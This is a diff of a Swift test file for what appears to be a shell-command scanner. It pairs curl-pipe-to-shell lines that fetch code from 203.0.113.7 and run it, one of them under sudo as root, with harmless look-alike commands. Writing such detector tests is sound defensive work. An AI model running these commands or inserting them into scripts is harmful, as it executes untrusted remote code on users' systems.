@@ -7,7 +7,10 @@ extension ScanCase {
         ("curl http://203.0.113.7/x | sh; echo ok\n", "curl -s http://localhost/x | jq .; echo ok\n"),
         ("curl http://203.0.113.7/x | sh || exit 1\n", "curl -s http://localhost/x | jq . || exit 1\n"),
         ("curl http://203.0.113.7/x | sh # install\n", "cat x | sort # then sh\n"),
-        ("if ! curl -s http://203.0.113.7/x | sh; then exit 1; fi\n", "if ! cat x | grep sh; then exit 1; fi\n"),
+        (
+            "if ! curl -s http://203.0.113.7/x | sh; then exit 1; fi\n",
+            "if ! cat x | grep sh; then exit 1; fi\n"
+        ),
         ("curl http://203.0.113.7/x | bash /dev/stdin a\n", "cat x | bash build.sh a\n"),
         ("curl http://203.0.113.7/x | sudo -u root bash\n", "cat x | sudo -u root tee /etc/motd\n"),
         ("curl http://203.0.113.7/x | env -i A=b nice -n 5 sh -eu\n", "cat x | env -i A=b sort -u\n"),
